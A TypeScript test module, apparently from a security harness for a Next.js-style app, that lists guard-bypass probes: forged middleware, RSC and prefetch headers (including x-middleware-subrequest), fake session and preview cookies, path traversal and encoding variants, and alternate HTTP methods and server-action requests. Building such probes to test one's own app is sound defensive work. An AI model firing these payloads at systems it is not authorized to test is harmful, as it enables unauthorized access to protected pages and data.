// Attempts to bypass a guard: by headers, by spelling of the path, by method.

import type { RequestOptions } from './app.ts';

/** One attempt to bypass a guard: what is requested instead of `target`, and with what. */
export type Probe = RequestOptions & { name: string; at: (target: string) => string };

const same = (target: string) => target;
const header = (name: string, value: string, more: Record<string, string> = {}): Probe => ({
  name: `${name}: ${value}`,
  at: same,
  headers: { [name]: value, ...more },
});
const path = (at: (target: string) => string): Probe => ({ name: at('/P/1/Q'), at });
const method = (name: string, more: Omit<RequestOptions, 'method'> = {}): Probe => ({
  name,
  at: same,
  method: name,
  ...more,
});
const five = (word: string) => Array(5).fill(word).join(':');

const tree =
  '%5B%22%22%2C%7B%22children%22%3A%5B%22(dashboard)%22%2C%7B%22children%22%3A%5B%22__PAGE__%22%2C%7B%7D%5D%7D%5D%7D%2Cnull%2Cnull%2Ctrue%5D';

/** Framework headers that have bypassed, or might bypass, a guard. */
export const headerProbes: readonly Probe[] = [
  ...['middleware', 'src/middleware', 'proxy', five('middleware'), five('src/middleware'), five('proxy')].map(
    (value) => header('x-middleware-subrequest', value),
  ),
  header('X-Middleware-Subrequest-Id', 'a'),
  header('x-middleware-rewrite', '/sign-in'),
  header('x-middleware-next', '1'),
  header('x-middleware-invoke', '1'),
  header('x-middleware-prefetch', '1'),
  header('x-middleware-override-headers', 'cookie', { 'x-middleware-request-cookie': 'sharebook.session=a' }),
  header('x-middleware-set-cookie', 'sharebook.session=a'),
  header('x-invoke-path', '/sign-in'),
  header('x-invoke-output', '/sign-in'),
  header('x-invoke-status', '200'),
  header('x-invoke-error', '{}'),
  header('x-matched-path', '/sign-in'),
  header('x-nextjs-data', '1'),
  header('x-nextjs-rewrite', '/sign-in'),
  header('x-nextjs-postponed', '1'),
  header('next-resume', '1'),
  header('x-now-route-matches', '1=1006'),
  header('x-prerender-revalidate', 'a'),
  header('x-original-url', '/sign-in'),
  header('x-rewrite-url', '/sign-in'),
  header('x-forwarded-prefix', '/sign-in'),
  header('x-http-method-override', 'GET'),
  header('x-sharebook-peer', 'a 127.0.0.1'),
  header('authorization', 'Bearer null'),
  header('authorization', 'Basic ZGVtbzpkZW1v'),
  header('content-security-policy', "script-src 'nonce-AAAAAAAAAAAAAAAAAAAAAAAA'"),
  header('rsc', '1'),
  header('rsc', '1', { 'next-router-prefetch': '1' }),
  header('rsc', '1', { 'next-router-prefetch': '2', 'next-url': '/issuers/1006/holders' }),
  header('rsc', '1', { 'next-router-segment-prefetch': '/_tree' }),
  header('rsc', '1', { 'next-router-segment-prefetch': '/_full', 'next-router-prefetch': '1' }),
  header('rsc', '1', { 'next-router-segment-prefetch': '/__PAGE__', 'next-router-prefetch': '1' }),
  header('rsc', '1', { 'next-router-state-tree': tree }),
  header('next-hmr-refresh', '1', { rsc: '1' }),
  header('next-instant-navigation-testing', '1', { rsc: '1' }),
  header('purpose', 'prefetch'),
  header('cookie', 'sharebook.session=; __Host-sharebook.session=a; next-auth.session-token=a'),
  header('cookie', '__prerender_bypass=a; __next_preview_data=a'),
];

/** Other spellings of a path. */
export const pathProbes: readonly Probe[] = [
  (at: string) => `${at}.rsc`,
  (at: string) => `${at}.prefetch.rsc`,
  (at: string) => `${at}.segments/_tree.segment.rsc`,
  (at: string) => `${at}.segments/_full.segment.rsc`,
  (at: string) => `${at}.segments/__PAGE__.segment.rsc`,
  (at: string) => `${at}.json`,
  (at: string) => `${at}.html`,
  (at: string) => `${at}.css`,
  (at: string) => `${at}/x.css`,
  (at: string) => `${at}/`,
  (at: string) => `${at}//`,
  (at: string) => `${at};x=1`,
  (at: string) => `${at}%00`,
  (at: string) => `${at}%20`,
  (at: string) => `${at}%0d%0a`,
  (at: string) => `${at}%23`,
  (at: string) => `${at}?_rsc=abcde`,
  (at: string) => `${at}?nxtPissuer=1001`,
  (at: string) => `${at}?__nextDefaultLocale=en&__nextLocale=en`,
  (at: string) => `${at}?__nextDataReq=1`,
  (at: string) => `/${at}`,
  (at: string) => `//${at}`,
  (at: string) => `/.${at}`,
  (at: string) => `/x/..${at}`,
  (at: string) => `/x.css/..${at}`,
  (at: string) => `/sign-in/..${at}`,
  (at: string) => `/sign-in/%2e%2e${at}`,
  (at: string) => `/sign-in/..%2f${at.slice(1)}`,
  (at: string) => `/_next/static/../..${at}`,
  (at: string) => `/_next/static/%2e%2e/%2e%2e${at}`,
  (at: string) => `/_next/data/build${at}.json`,
  (at: string) => `/_next${at}`,
  (at: string) => `/_next/image?url=${encodeURIComponent(at)}&w=64&q=75`,
  (at: string) => `/api/health/..${at}`,
  (at: string) => `/api/upstream/../..${at}`,
  (at: string) => `/api${at}`,
  (at: string) => `/en${at}`,
  (at: string) => `/en-US${at}`,
  (at: string) => `/index${at}`,
  (at: string) => `/(dashboard)${at}`,
  (at: string) => `/%28dashboard%29${at}`,
  (at: string) => at.replaceAll('/', '\\'),
  (at: string) => at.replaceAll('/', '%5c'),
  (at: string) => `/${at.slice(1).replaceAll('/', '%2f')}`,
  (at: string) => `/${at.slice(1).replaceAll('/', '%252f')}`,
  (at: string) => `/%${at.charCodeAt(1).toString(16)}${at.slice(2)}`,
  (at: string) => at.toUpperCase(),
  (at: string) => at.replace('1006', '01006'),
  (at: string) => at.replace('1006', '1006.0'),
  (at: string) => at.replace('1006', '%31006'),
  (at: string) => at.replace('1006', '1001%2f..%2f1006'),
  (at: string) => at.replace('1006', '1001/../1006'),
  (at: string) => at.replace('1006', '1001%00/../1006'),
  (at: string) =>
    at.replace(
      '1006',
      '１００６'.replace(/./g, (digit) => encodeURIComponent(digit)),
    ),
  (at: string) => `http://127.0.0.1${at}`,
  (at: string) => `http://evil.test${at}`,
  (at: string) => `https://evil.test:443${at}`,
].map(path);

const upgrade = {
  connection: 'Upgrade',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
};

/** Other methods, and requests the framework might treat as server actions. */
export const methodProbes: readonly Probe[] = [
  ...['HEAD', 'OPTIONS', 'PUT', 'PATCH', 'DELETE', 'PROPFIND', 'TRACE', 'QUERY'].map((name) => method(name)),
  method('POST', { body: '{}', headers: { 'content-type': 'application/json' } }),
  method('POST', { body: '[]', headers: { 'next-action': 'a'.repeat(42), 'content-type': 'text/plain' } }),
  method('POST', {
    body: '["$F1",{"id":"a","bound":null}]',
    headers: { 'next-action': 'x', 'content-type': 'text/plain;charset=UTF-8' },
  }),
  method('POST', {
    body: '0=1',
    headers: { 'next-action': '00', 'content-type': 'application/x-www-form-urlencoded' },
  }),
  method('GET', { headers: { ...upgrade, upgrade: 'websocket' } }),
  method('GET', { headers: { ...upgrade, upgrade: 'h2c' } }),
];
